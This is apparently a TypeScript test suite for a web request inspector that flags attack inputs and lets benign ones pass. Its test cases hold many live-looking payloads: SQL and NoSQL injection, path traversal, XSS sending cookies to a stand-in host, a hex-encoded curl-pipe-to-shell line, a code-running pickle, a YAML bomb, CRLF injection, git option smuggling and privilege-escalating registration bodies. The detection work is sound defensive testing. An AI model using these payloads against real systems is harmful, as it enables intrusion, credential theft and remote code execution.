
  it("takes a JSON body's filter operator whose operand matches every record", () => {
    expect(jsonPost({ message: "x", filters: { owner: { $ne: null }, visibility: { $in: ["private"] } } })).toContain(
      "942290@body:json-name.filters.owner.$ne",
    );
    expect(jsonPost({ filter: { $or: [{ user_id: { $eq: "u_1" } }, { user_id: { $exists: true } }] } })).toContain(
      "942290@body:json-name.filter.$or.1.user_id.$exists",
    );
    expect(jsonPost({ filter: { status: { $ne: "archived" }, total: { $gte: 50 } } })).toEqual([]);
  });

  it("reads a TAP service's ADQL query as its own language", () => {
    const adql = "SELECT TOP 10 source_id, ra, dec FROM gaiadr3.gaia_source WHERE phot_g_mean_mag < 6";
    expect(where({ path: "/tap-server/tap/sync", rawPath: "/tap-server/tap/sync", query: [["QUERY", adql]] })).toEqual(
      [],
    );
    expect(query(["LANG", "ADQL"], ["QUERY", adql])).toEqual([]);
    expect(query(["QUERY", adql]).some((m) => m.startsWith("942180@"))).toBe(true);
    expect(
      where({
        path: "/tap/sync",
        rawPath: "/tap/sync",
        query: [["QUERY", "SELECT ra FROM gaia_source UNION SELECT password FROM users"]],
      }),
    ).toContain("942130@query:QUERY");
  });
});

describe("the forty-third and forty-fourth pairs' classes", () => {
  it("takes a Host no client builds from a URL", () => {
    const host = (h: string) => where({ headers: [["host", h]] });
    expect(host("app.example.com:@oast-ke73h1.fun")).toContain("920283@header:host");
    expect(host("www.example.com#.attacker.net")).toContain("920283@header:host");
    expect(host("www.example.com, example.attacker-host.net")).toContain("920283@header:host");
    expect(host("www.example.com:evil-port.attacker.net")).toContain("920283@header:host");
    for (const fine of ["www.example.com", "www.example.com:8443", "[::1]:8080", "127.0.0.1:3000", "localhost"])
      expect(host(fine).filter((m) => m.startsWith("920283"))).toEqual([]);
  });

  it("takes Swagger UI's configUrl on another site", () => {
    expect(query(["configUrl", "https://jumpy-floor.surge.sh/test.json"])).toContain("931102@query:configUrl");
    expect(query(["configUrl", "/v3/api-docs/swagger-config"])).toEqual([]);
  });

  it("reads a path as Jolokia unescapes it (`!/` for `/`)", () => {
    const jolokia =
      "/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/45.61.137.12:8000!/logback.xml";
    expect(path(jolokia).some((m) => m.endsWith("@path.unescaped"))).toBe(true);
    expect(path("/jolokia/read/java.lang:type=Memory/HeapMemoryUsage")).toEqual([]);
  });

  it("reads Base64 marked `base64:` as Base64", () => {
    const serialized = btoa('O:20:"WpOrg\\Requests\\Hooks":1:{s:5:"hooks";a:0:{}}');
    expect(query(["meta", `base64:${serialized}`]).some((m) => m.startsWith("933170@query:meta.b64"))).toBe(true);
  });

  it("takes a path a cache would store as a static file (web cache deception)", () => {
    for (const p of [
      "/my-account/profile;.js",
      "/user/settings%3f.jpg",
      "/profile%23.css",
      "/user/me%00.js",
      "/billing/invoices/.css",
    ])
      expect(path(p)).toContain("920284@path");
    for (const p of [
      "/static/app.3f2a1b.js",
      "/fonts/inter-var.woff2",
      "/.well-known/security.txt",
      "/assets/main.css",
    ])
      expect(path(p)).toEqual([]);
  });
});

describe("the forty-sixth and forty-seventh pairs' classes", () => {
  const post = (p: string, contentType: string, text: string) =>
    where({
      method: "POST",
      path: p,
      rawPath: p,
      body: { bytes: new TextEncoder().encode(text), contentType, truncated: false },
    });
  const postJson = (p: string, body: unknown) => post(p, "application/json", JSON.stringify(body));
  const postForm = (p: string, text: string) => post(p, "application/x-www-form-urlencoded", text);
  const granted = (found: string[]) => found.filter((m) => m.startsWith("920286"));

  it("judges a fragment sent in the request target as the path it continues", () => {
    const input = (fragment: string) =>
      where({ path: "/public/plugins/welcome/", rawPath: "/public/plugins/welcome/", fragment });
    expect(input("/../../../../../../etc/grafana/grafana.ini")).toContain("930110@path.fragment");
    expect(input("section-2")).toEqual([]);
  });

  it("takes a self-service request that sets its own role or admin flag", () => {
    expect(postJson("/api/register", { email: "a@b.example", password: "Passw0rd!", role: "admin" })).toContain(
      "920286@body:json.role",
    );
    expect(postJson("/api/v1/users/me", { name: "Mark", is_admin: true })).toContain("920286@body:json.is_admin");
    expect(postJson("/api/account", { roles: ["ROLE_USER", "ROLE_ADMIN"] })).toContain("920286@body:json.roles.1");
    expect(postForm("/users", "user%5Bemail%5D=a%40b.example&user%5Bpassword%5D=x&user%5Badmin%5D=1")).toContain(
      "920286@body:form.user[admin]",
    );
    expect(
      postForm("/wp-admin/admin-ajax.php", "action=pp_ajax_signup&reg_username=x&wp_capabilities%5Badministrator%5D=1"),
    ).toContain("920286@body:form.wp_capabilities[administrator]");
    expect(
      postForm("/register/", "user_login-7=x&wp_c%C3%A0pabilities%5Badministrator%5D=1").some((m) =>
        m.startsWith("920286"),
      ),
    ).toBe(true);
    const scim = {
      schemas: ["urn:ietf:params:scim:api:messages:2.0:PatchOp"],
      Operations: [{ op: "replace", path: "userType", value: "Admin" }],
    };
    expect(postJson("/scim/v2/Users/me", scim)).toContain("920286@body:json.Operations.0.value");
    // A form field holding the JSON an AJAX handler binds.
    const members = encodeURIComponent(JSON.stringify({ username: "x", role: "administrator" }));
    expect(
      postForm(
        "/wp-admin/admin-ajax.php",
        `action=user_registration_membership_register_member&members_data=${members}`,
      ),
    ).toContain("920286@body:form.members_data.json.role");
  });

  it("takes a site's default role set to an administrator's wherever it is sent", () => {
    const option = { data: { option_name: "default_role", option_value: "administrator" } };
    expect(granted(postJson("/wp-admin/admin-ajax.php", option))).toEqual(["920286@body:json.data.option_value"]);
  });

  it("leaves roles an administrator or a member sets alone", () => {
    expect(granted(postJson("/api/admin/users/42", { role: "admin" }))).toEqual([]);
    expect(
      granted(postJson("/api/account/v1/invitations", { invitees: [{ email: "c@d.example", role: "admin" }] })),
    ).toEqual([]);
    expect(
      granted(postJson("/api/admin/users", { email: "e@f.example", password: "Temp-1234", role: "admin" })),
    ).toEqual([]);
    expect(granted(postJson("/api/register", { email: "a@b.example", password: "x", role: "member" }))).toEqual([]);
    expect(granted(postJson("/api/v1/users/me", { title: "Product Owner", notify: true }))).toEqual([]);
    expect(granted(where({ query: [["filter[role]", "admin"]] }))).toEqual([]);
  });

  it("takes a password sent as a boolean or as an object naming a credential", () => {
    expect(postJson("/api/login.php", { username: "admin", password: true })).toContain("920285@body:json.password");
    expect(postJson("/login", { username: "admin", password: { password: 1 } })).toContain(
      "920285@body:json-name.password.password",
    );
    expect(postJson("/api/auth/reset", { token: { not: "x" }, password: "NewPassw0rd!" })).toContain(
      "942290@body:json-name.token.not",
    );
    expect(postJson("/api/ci/results", { test: "login works", pass: true, pinned: false })).toEqual([]);
    expect(postJson("/api/login", { username: "ann", password: "hunter2", remember: true })).toEqual([]);
    expect(postJson("/api/password", { password: { current: "old-secret", next: "new-secret" } })).toEqual([]);
    // A key quoted inside a string value is text, not a key.
    expect(postJson("/api/register", { bio: 'config: {"password": true, "is_admin": true}', password: "x" })).toEqual(
      [],
    );
  });

  it("reads a body's booleans whether or not its JSON parsed whole", () => {
    // Parsed whole, the keys say whether the booleans are worth reading; deep in a long body they still count.
    const filler = Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`field_${i}`, `value ${i}`]));
    expect(postJson("/api/login", { ...filler, username: "admin", password: false })).toContain(
      "920285@body:json.password",
    );
    expect(granted(postJson("/api/register", { ...filler, email: "a@b.example", is_admin: true }))).toEqual([
      "920286@body:json.is_admin",
    ]);
    // A body no JSON reader accepts, which a lenient parser may still take: its bytes are read all the same.
    const broken = '{"username": "admin", "password": true,}';
    expect(post("/api/login", "application/json", broken)).toContain("920285@body:json.password");
    expect(post("/api/login", "application/x-www-form-urlencoded", broken)).toContain("920285@body:json.password");
    expect(post("/api/login", "", broken)).toContain("920285@body:json.password");
    // Past the reader's field bound, a key it never handed over is still read from the bytes.
    const many = Object.fromEntries(Array.from({ length: 4200 }, (_, i) => [`k${i}`, 1]));
    expect(post("/api/login", "application/json", JSON.stringify({ ...many, password: true }))).toContain(
      "920285@body:json.password",
    );
  });
});

describe("the forty-seventh pair's headers", () => {
  it("takes Kubernetes impersonation of the cluster's administrators from a client", () => {
    expect(header("impersonate-group", "system:masters")).toContain("920275@header:impersonate-group");
    expect(header("impersonate-user", "admin")).toContain("920275@header:impersonate-user");
    expect(header("impersonate-user", "system:serviceaccount:ci:deployer")).toEqual([]);
  });

  it("takes a forwarded path prefix that points at another site", () => {
    expect(header("x-forwarded-prefix", "//x.attacker-lab.net/%2e%2e")).toContain("920279@header:x-forwarded-prefix");
    expect(header("x-forwarded-prefix", "https://evil.example")).toContain("920279@header:x-forwarded-prefix");
    expect(header("x-forwarded-prefix", "/grafana")).toEqual([]);
  });
});

describe("the forty-eighth pair's classes", () => {
  it("reads a JSON key that holds a quote as the value an ORM writes into its SQL", () => {
    const filter = JSON.stringify({ "meta.name') = 'x' OR 1=1 -- ": "a" });
    expect(query(["filter", filter]).some((m) => m.startsWith("942") && m.includes("@query:filter.json-name"))).toBe(
      true,
    );
    const i18n = { "Don't have an account?": "Vous n'avez pas de compte ?", "It's free": "C'est gratuit" };
    expect(query(["messages", JSON.stringify(i18n)])).toEqual([]);
    expect(json(i18n)).toEqual([]);
  });

  it("takes a search for the records that hold a secret (`_exists_:password`)", () => {
    expect(query(["q", "*:* OR _exists_:password"])).toContain("942297@query:q");
    expect(query(["q", "_exists_:reset_token AND role:admin"])).toContain("942297@query:q");
    expect(query(["q", "_exists_:email AND status:active"])).toEqual([]);
    expect(query(["q", "password: forgot how to reset"])).toEqual([]);
  });
});

describe("the fifty-second pair's search back ends", () => {
  it("takes a wildcard on a secret field (`password_hash:*`) in any search, and a YAML alias is none", () => {
    expect(query(["q", "name:john OR password_hash:*"])).toContain("942297@query:q");
    expect(query(["kql", "user.password:* or user.api_key:*"])).toContain("942297@query:kql");
    expect(query(["q", "{!join from=owner_id to=id fromIndex=users}password_hash:*"])).toContain("942297@query:q");
    expect(query(["q", "title:password* AND status:open"])).toEqual([]);
    expect(json({ config: "defaults: &defaults\n  api_key: *default_key\n" })).toEqual([]);
    expect(query(["q", "email:*@acme.example"])).toEqual([]);
  });

  it("takes Elasticsearch's source filtering that names a secret, as any projection", () => {
    expect(query(["_source", "email,password,reset_token"])).toContain("942297@query:_source");
    expect(query(["_source", "title,author,published_at"])).toEqual([]);
  });

  it("takes a value that closes the JSON string it is pasted into and adds members", () => {
    const breakout = 'laptop"}}],"must_not":[],"filter":[{"match_all":{}}]}},"size":10000,"_source":["*"]';
    expect(json({ q: breakout })).toContain("942298@body:json.q");
    expect(query(["q", 'x","size":10000,"from":"0'])).toContain("942298@query:q");
    // Closing an object inside an array and opening another one after the comma.
    const clause = 'laptop"}},{"match_all":{}}],"must_not":[{"term":{"hidden":true';
    expect(query(["q", clause])).toContain("942298@query:q");
    expect(query(["q", 'He said "hi", {"a": 1}'])).toEqual([]);
    // A JSON document quoted in a value opens its brackets before it closes them.
    expect(json({ note: 'API returns {"data":[{"name":"x"}],"count":1} when the cart is empty' })).toEqual([]);
    expect(query(["filter", '{"status":"open","tags":["a","b"]}'])).toEqual([]);
    // A JSON document sent as a string (an editor's state, a saved search) is no breakout.
    const lexical = JSON.stringify({ root: { children: [{ detail: 0, text: "Tickets", format: 0 }], type: "root" } });
    expect(json({ posts: [{ lexical }] })).toEqual([]);
    expect(json({ text: 'The 12" pizza, "extra": cheese' })).toEqual([]);
    expect(json({ title: 'He said "yes" and left' })).toEqual([]);
  });

  it("reads a JSON document sent under the form type (Algolia's client) as JSON, not its form pieces as breakouts", () => {
    const formTyped = formBody;
    const params = (q: string) => `query=${encodeURIComponent(q)}&hitsPerPage=20&page=0`;
    const multi = JSON.stringify({
      requests: [
        { indexName: "courses", params: params('japanese "for beginners"') },
        { indexName: "courses_suggestions", params: params("japanese") },
      ],
    });
    expect(formTyped(multi)).toEqual([]);
    // A breakout inside one of its strings is still one; a form body is read as a form.
    const inside = JSON.stringify({ requests: [{ indexName: "c", params: 'query=x","size":10000,"from":"0' }] });
    expect(formTyped(inside)).toEqual(expect.arrayContaining([expect.stringMatching(/^942298@body:json\./)]));
    expect(formTyped(`q=${encodeURIComponent('x","size":10000,"from":"0')}`)).toContain("942298@body:form.q");
  });
});

describe("the forty-ninth pair's formats", () => {
  const post = (text: string, contentType: string) =>
    where({
      method: "POST",
      body: { bytes: new TextEncoder().encode(text), contentType, truncated: false },
    });
  const sqli = (found: string[]) => found.some((m) => m.startsWith("942"));

  it("reads JSON Lines one document a line, under their own types and JSON's", () => {
    const lines = [
      '{"event":"page_view","path":"/pricing"}',
      `{"event":"search","filter":"region='EU' OR 1=1 UNION SELECT api_key,NULL FROM tenants--"}`,
    ].join("\n");
    expect(post(lines, "application/x-ndjson")).toContain("942180@body:json.line1.filter");
    expect(sqli(post(lines, "application/json"))).toBe(true);
    const logs = ['{"level":"info","msg":"started"}', '{"level":"warn","msg":"slow query on orders"}'].join("\n");
    expect(post(logs, "application/x-ndjson")).toEqual([]);
  });

  it("reads a JSON object sent as application/octet-stream", () => {
    const json = JSON.stringify({ thread: 77, body: '<a href="javascript:alert(document.domain)">specs</a>' });
    expect(post(json, "application/octet-stream").some((m) => m.endsWith("@body:json.body"))).toBe(true);
    expect(post(JSON.stringify({ thread: 77, body: "see the specs" }), "application/octet-stream")).toEqual([]);
  });

  it("judges a WebSocket subprotocol that is no token as a value", () => {
    expect(sqli(header("sec-websocket-protocol", "v2.notify, tenant-7' UNION SELECT token FROM sessions--"))).toBe(
      true,
    );
    expect(header("sec-websocket-protocol", "graphql-transport-ws, v2.notify")).toEqual([]);
  });

  it("reads a `;name=value` in a query value as the parameter some back ends split it into", () => {
    expect(query(["q", "boots;q=1' OR '1'='1"])).toContain("942100@query:q");
    expect(query(["q", "tags;lang=en"])).toEqual([]);
  });

  it("unfolds a multipart part's headers and decodes a quoted-printable part", () => {
    const folded =
      '--b\r\nContent-Disposition: form-data;\r\n\tname="dept"\r\n\r\nMath\') OR pg_sleep(6) IS NULL--\r\n--b--\r\n';
    expect(post(folded, "multipart/form-data; boundary=b").some((m) => m.includes("@body:multipart.dept"))).toBe(true);
    const qp =
      '--b\r\nContent-Disposition: form-data; name="msg"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=3Cscript=3Edocument.location=3D=27//x7k.example/?c=3D=27+document=\r\n.cookie=3C/script=3E\r\n--b--\r\n';
    expect(post(qp, "multipart/form-data; boundary=b").some((m) => m.startsWith("941"))).toBe(true);
    const plain =
      '--b\r\nContent-Disposition: form-data; name="msg"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nCaf=C3=A9 =3D 5 =E2=82=AC\r\n--b--\r\n';
    expect(post(plain, "multipart/form-data; boundary=b")).toEqual([]);
  });

  it("takes a JSON object in a `query` parameter for JSON, not a GraphQL selection, and `ilike` for an operator's name", () => {
    expect(query(["query", '{"$or":[{"group_hh/region":"bay"},{"group_hh/region":"bakool"}]}'])).toEqual([]);
    const odoo = { params: { args: [[["name", "ilike", "o'reilly"]]] } };
    expect(post(JSON.stringify(odoo), "application/json")).toEqual([]);
  });
});

describe("hexadecimal text in a parameter", () => {
  it("is judged as the line it decodes to; a digest is left alone", () => {
    const hex = (s: string) => [...new TextEncoder().encode(s)].map((b) => b.toString(16).padStart(2, "0")).join("");
    expect(
      query(["arg_hex", hex("; curl -s http://198.51.100.7/x | sh")]).some((m) => m.endsWith("@query:arg_hex.hex")),
    ).toBe(true);
    expect(query(["digest", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"])).toEqual([]);
    expect(query(["label", hex("Hello world, nice day")])).toEqual([]);
  });

  it("reads text in lines too: a protocol 0 pickle sent as hex in a JSON field", () => {
    const hex = (s: string) => [...new TextEncoder().encode(s)].map((b) => b.toString(16).padStart(2, "0")).join("");
    const pickle = "c__builtin__\neval\np0\n(V__import__('os').popen('id').read()\np1\ntp2\nRp3\n.";
    expect(json({ key: "job:1", value_hex: hex(pickle) }).some((m) => m.endsWith(".hex"))).toBe(true);
    expect(json({ key: "job:1", value_hex: hex("line one\nline two\n") })).toEqual([]);
  });
});

describe("YAML's billion laughs", () => {
  const yaml = (text: string) =>
    where({
      method: "PUT",
      body: { bytes: new TextEncoder().encode(text), contentType: "application/yaml", truncated: false },
    });

  it("takes anchors that repeat the aliases before them, and leaves a configuration's reused anchors alone", () => {
    const bomb = [
      'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
      "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]",
      "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]",
      "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]",
    ].join("\n");
    expect(yaml(bomb)).toContain("920288@body:raw");
    const compose = [
      "x-defaults: &defaults",
      "  restart: unless-stopped",
      "  environment: &env [TZ=UTC, LANG=C.UTF-8]",
      "services:",
      "  web:",
      "    <<: *defaults",
      "    environment: *env",
      "  worker:",
      "    <<: *defaults",
      "    ports: &ports [8080, 8081, 8082, 8083]",
    ].join("\n");
    expect(yaml(compose)).toEqual([]);
  });
});

describe("the sixty-seventh and sixty-eighth pairs' classes", () => {
  it("reads a quoted Forwarded pair as the value a proxy hands on", () => {
    expect(header("forwarded", `for="192.0.2.60' OR '1'='1";proto=https;by=203.0.113.43`)).toContain(
      "942100@header:forwarded.for",
    );
    expect(
      header("forwarded", 'for="[2001:db8::17]:4711";proto=https, for=198.51.100.7;host="app.example.com"'),
    ).toEqual([]);
    // A name that is no RFC 7239 token is reported as `pair`: the location stays short.
    expect(header("forwarded", `${"x".repeat(300)} y="1' OR '1'='1"`)).toContain("942100@header:forwarded.pair");
  });

  it("takes a vendor's credential header named in Connection (CVE-2022-1388), and leaves hop-by-hop ones", () => {
    expect(header("connection", "keep-alive, X-F5-Auth-Token")).toContain("920257@header:connection");
    expect(header("connection", "close, X-Api-Key")).toContain("920257@header:connection");
    expect(header("connection", "Keep-Alive, Upgrade, HTTP2-Settings")).toEqual([]);
    expect(header("connection", "TE, close")).toEqual([]);
  });

  it("takes a UNC share to include, and leaves one under a name for no include", () => {
    expect(query(["inc", "\\\\evil.tld\\share\\shell.php"])).toContain("931102@query:inc");
    expect(query(["template", "\\\\203.0.113.9\\x\\t.php"])).toContain("931102@query:template");
    expect(query(["path", "\\\\fileserver\\finance\\Q3 report.xlsx"])).toEqual([]);
    // Under any name, a share's server-side script.
    expect(query(["doc", "\\\\attacker-smb.example.net\\share\\payload.php"])).toContain("931102@query:doc");
    expect(query(["inc", "\\\\"])).toEqual([]);
  });

  it("takes a line break written as escape text before a response header, in the path and in a value", () => {
    expect(path("/%5cr%5cnSet-Cookie:crlf=injection")).toContain("921120@path");
    expect(path("/x/%5Cu000d%5Cu000aLocation:%20https://evil.example")).toContain("921120@path");
    expect(path("/a%zz/%5cr%5cnSet-Cookie:x=1")).toContain("921120@path");
    expect(query(["next", "/home\\r\\nSet-Cookie: admin=1"])).toContain("921120@query:next");
    expect(query(["q", "C:\\new\\report location: Berlin"])).toEqual([]);
    expect(query(["regex", "^\\r\\n$"])).toEqual([]);
  });
});

describe("documents and options in path segments", () => {
  it("reads a segment in Base64 of an operator object", () => {
    expect(path(`/api/documents/${btoa('{"$ne":null}')}`)).toContain("942290@path.b64");
    expect(path(`/api/documents/${btoa('{"id":42}')}`)).toEqual([]);
  });

  it("reads a segment that opens as a program's option", () => {
    const raw = "/api/v1/git/clone/--upload-pack%3Dtouch%20%2Ftmp%2Fpwn";
    expect(where({ path: "/api/v1/git/clone/--upload-pack=touch /tmp/pwn", rawPath: raw })).toContain(
      "932230@path.option",
    );
    expect(path("/group/project/-/tree/main")).toEqual([]);
    expect(path("/api/v1/tags/-dark-mode/posts")).toEqual([]);
  });
});

describe("credentials named as objects in brackets", () => {
  it("takes `password[password]` in a form or a query, not a settings object", () => {
    const form = formBody;
    expect(form("username=admin&password[password]=1")).toContain("920285@body:form-name.password[password]");
    expect(query(["password[password]", "1"])).toContain("920285@query-name");
    expect(form("user[name]=ann&user[password]=Secret1")).toEqual([]);
    expect(form("settings[password][min_length]=12")).toEqual([]);
  });
});
